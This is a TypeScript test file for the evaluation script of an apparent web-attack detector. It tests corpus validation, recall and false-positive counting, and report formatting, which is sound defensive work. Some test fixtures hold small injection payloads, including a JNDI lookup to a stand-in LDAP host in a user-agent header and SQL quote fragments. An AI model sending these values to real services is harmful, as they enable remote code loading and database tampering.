/**
 * The corpus evaluation's pure parts (scripts/eval-corpus.ts), driven by a small stand-in detector: line
 * validation, JSONL parsing errors, the counting of recall and false positives, the target check and the report.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { CorpusLine } from '../../scripts/corpus/util.js';
import {
  type Detector,
  evaluate,
  formatReport,
  loadCorpus,
  missesByFamily,
  parseJsonl,
  snippet,
  targetFailures,
  validateLine,
} from '../../scripts/eval-corpus.js';
import type { AttackClass } from '../../src/detect/types.js';

const req = (over: Partial<CorpusLine['request']> = {}): CorpusLine['request'] => ({
  method: 'GET',
  path: '/x',
  query: '',
  headers: { host: 'a' },
  ...over,
});
const line = (
  id: string,
  label: CorpusLine['label'],
  over: Partial<CorpusLine['request']> = {},
  note?: string,
): CorpusLine => ({
  id,
  label,
  request: req(over),
  ...(note ? { note } : {}),
});

/** Stand-in engine: flags a request whose decoded query or body contains "evil"; throws on "boom". */
const keywordDetector: Detector = (r) => {
  const text = `${decodeURIComponent(r.query)} ${String(r.body ?? '')}`;
  if (text.includes('boom')) throw new Error('engine bug');
  const hit = text.includes('evil');
  const cls: AttackClass = text.includes('sql') ? 'sqli' : 'xss';
  return {
    attack: hit,
    score: hit ? 10 : 0,
    findings: hit ? [{ rule: `${cls}.kw`, class: cls, score: 10, location: 'query', fragment: 'evil' }] : [],
  };
};

const tmp = mkdtempSync(join(tmpdir(), 'rampart-corpus-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('validateLine', () => {
  it('accepts a well-formed line', () => {
    expect(
      validateLine(line('a', 'sqli', { query: 'id=1%27', body: 'x', headers: { 'content-type': 'text/plain' } })),
    ).toEqual([]);
  });

  it('names each problem', () => {
    expect(
      validateLine({
        id: '',
        label: 'sql',
        request: { method: 'get', path: 'x', query: '?a', headers: { Host: 'a' } },
      }),
    ).toEqual([
      'id must be a non-empty string',
      expect.stringMatching(/^label must be one of sqli, /),
      'request.method must be an upper-case token',
      'request.path must start with "/"',
      'request.query must be a string without "?"',
      'header "Host" must be lower-case',
    ]);
    expect(validateLine(line('a', 'xss', { path: '/a b' }))).toEqual([
      'request.path must be raw (no whitespace, "?" or "#")',
    ]);
    expect(validateLine(line('a', 'xss', { headers: { 'user-agent': 'a\r\nb' } }))).toEqual([
      'header "user-agent" contains a control character',
    ]);
    expect(validateLine({ ...line('a', 'xss'), extra: 1 })).toEqual(['unknown key "extra"']);
    expect(validateLine([])).toEqual(['not an object']);
  });
});

describe('parseJsonl / loadCorpus', () => {
  it('reports file and line of the first bad line', () => {
    const good = JSON.stringify(line('a', 'sqli'));
    expect(() => parseJsonl(`${good}\n{oops\n`, 'attacks/sqli.jsonl')).toThrow(/^attacks\/sqli\.jsonl:2: invalid JSON/);
    expect(() => parseJsonl(`${good}\n\n${JSON.stringify({ id: 'b' })}\n`, 'f.jsonl')).toThrow(/^f\.jsonl:3: /);
    expect(parseJsonl(`${good}\n\n`, 'f.jsonl')).toHaveLength(1);
  });

  it('rejects duplicate ids and labels in the wrong folder', () => {
    const d1 = join(tmp, 'dup');
    mkdirSync(join(d1, 'attacks'), { recursive: true });
    writeFileSync(
      join(d1, 'attacks', 'sqli.jsonl'),
      `${JSON.stringify(line('a', 'sqli'))}\n${JSON.stringify(line('a', 'sqli'))}\n`,
    );
    expect(() => loadCorpus(d1)).toThrow(/duplicate id "a"/);
    const d2 = join(tmp, 'wrong');
    mkdirSync(join(d2, 'benign'), { recursive: true });
    writeFileSync(join(d2, 'benign', 'x.jsonl'), `${JSON.stringify(line('a', 'xss'))}\n`);
    expect(() => loadCorpus(d2)).toThrow(/attack line in benign\//);
  });
});

describe('evaluate', () => {
  const d = join(tmp, 'corpus');
  mkdirSync(join(d, 'attacks'), { recursive: true });
  mkdirSync(join(d, 'benign'), { recursive: true });
  const sqli = [
    line('s1', 'sqli', { query: 'q=evil%20sql' }, 'union; query.q'),
    line('s2', 'sqli', { query: 'q=evil' }, 'union; query.q'),
    line('s3', 'sqli', { query: 'q=harmless' }, 'tautology; query.q'),
    line('s4', 'sqli', { query: 'q=boom' }, 'stacked; query.q'),
  ];
  const regular = [
    line('b1', 'benign', { query: 'q=hello' }),
    line('b2', 'benign', { query: 'q=evil%20twin' }),
    line('b3', 'benign'),
  ];
  const hard = [
    line('h1', 'benign', { body: 'evil', headers: { 'content-type': 'text/plain' } }, 'hard: x'),
    line('h2', 'benign', {}, 'hard: y'),
  ];
  writeFileSync(join(d, 'attacks', 'sqli.jsonl'), `${sqli.map((l) => JSON.stringify(l)).join('\n')}\n`);
  writeFileSync(join(d, 'benign', 'api.jsonl'), `${regular.map((l) => JSON.stringify(l)).join('\n')}\n`);
  writeFileSync(join(d, 'benign', 'hard.jsonl'), `${hard.map((l) => JSON.stringify(l)).join('\n')}\n`);

  it('counts recall per class and false positives per file, hard separately and in the total', () => {
    const r = evaluate(loadCorpus(d), keywordDetector);
    expect(r.classes.sqli).toEqual({ count: 4, detected: 2, classHits: 1, recall: 0.5 });
    expect(r.classes.xss.count).toBe(0);
    expect(r.benignRegular).toEqual({ count: 3, falsePositives: 1, fpRate: 1 / 3 });
    expect(r.hard).toEqual({ count: 2, falsePositives: 1, fpRate: 0.5 });
    expect(r.benign).toEqual({ count: 5, falsePositives: 2, fpRate: 0.4 });
    expect(Object.keys(r.byFile).sort()).toEqual(['api', 'hard']);
    expect(r.misses.map((m) => m.id)).toEqual(['s3', 's4']);
    expect(r.falsePositives.map((f) => [f.id, f.rules])).toEqual([
      ['b2', ['xss.kw']],
      ['h1', ['xss.kw']],
    ]);
    expect(r.falsePositives[0]?.fragments).toEqual(['query: evil']);
    expect(r.errors).toEqual([{ id: 's4', error: 'engine bug' }]);
  });

  it('lists every missed target and reports them in the table', () => {
    const r = evaluate(loadCorpus(d), keywordDetector);
    const fails = targetFailures(r);
    expect(fails).toContain('sqli: recall 50.0% < 97.0%');
    expect(fails).toContain('xss: no lines');
    expect(fails).toContain('benign: false-positive rate 40.00% > 0.50%');
    expect(fails).toContain('1 request(s) made the engine throw');
    const text = formatReport(r, true);
    expect(text).toMatch(/^sqli\s+4\s+2\s+50\.0%\s+25\.0%$/m);
    expect(text).toMatch(/^hard\s+2\s+1\s+50\.00%$/m);
    expect(text).toMatch(/^total\s+5\s+2\s+40\.00%$/m);
    expect(text).toMatch(/^ {2}s3 .*\[tautology; query\.q\] GET \/x\?q=harmless$/m);
    expect(text).toMatch(/^ {2}b2 +\[xss\.kw\] GET \/x\?q=evil%20twin\n {27}matched query: evil$/m);
    expect(missesByFamily(r)).toEqual([
      ['sqli/stacked', 1],
      ['sqli/tautology', 1],
    ]);
    expect(text).toMatch(/^false positives by benign file and shape:\n {2}api\/\? +1\n {2}hard\/hard: x +1$/m);
    expect(text).toMatch(/^misses by family:\n {2}sqli\/stacked +1\n {2}sqli\/tautology +1$/m);
    expect(text).toContain('targets missed (recall >= 97.0% per class, FP <= 0.50% of all benign):');
    // Without hard.jsonl the FP rate is 1 of 3.
    expect(targetFailures(r, undefined, 'regular')).toContain(
      'benign (without hard): false-positive rate 33.33% > 0.50%',
    );
  });

  it('meets the targets when the detector is right about everything', () => {
    const all = loadCorpus(d).filter((l) => l.id !== 's4');
    const oracle = new Set(all.filter((l) => l.label !== 'benign').map((l) => l.request.query));
    const perfect: Detector = (q) => ({ attack: oracle.has(q.query), findings: [] });
    const r = evaluate(all, perfect);
    expect(targetFailures(r, { recall: 0.97, fpRate: 0.005 }).filter((f) => !f.endsWith('no lines'))).toEqual([]);
  });
});

describe('snippet', () => {
  it('shows the header for header placements and path, query and body otherwise, cut to 80 characters', () => {
    const ua = line('a', 'jndi', { headers: { 'user-agent': '${jndi:ldap://x/a}' } }, 'plain; ua');
    expect(snippet(ua)).toBe('user-agent: ${jndi:ldap://x/a}');
    const ck = line('a', 'sqli', { headers: { cookie: "sid=1; lang='" } }, 'tautology; cookie.lang');
    expect(snippet(ck)).toBe("cookie: sid=1; lang='");
    const long = line('a', 'xss', {
      method: 'POST',
      query: 'a=1',
      body: `x\n${'y'.repeat(100)}`,
      headers: { 'content-type': 'text/plain' },
    });
    const s = snippet(long);
    expect(s).toHaveLength(80);
    expect(s.startsWith('POST /x?a=1 x\\ny')).toBe(true);
  });
});
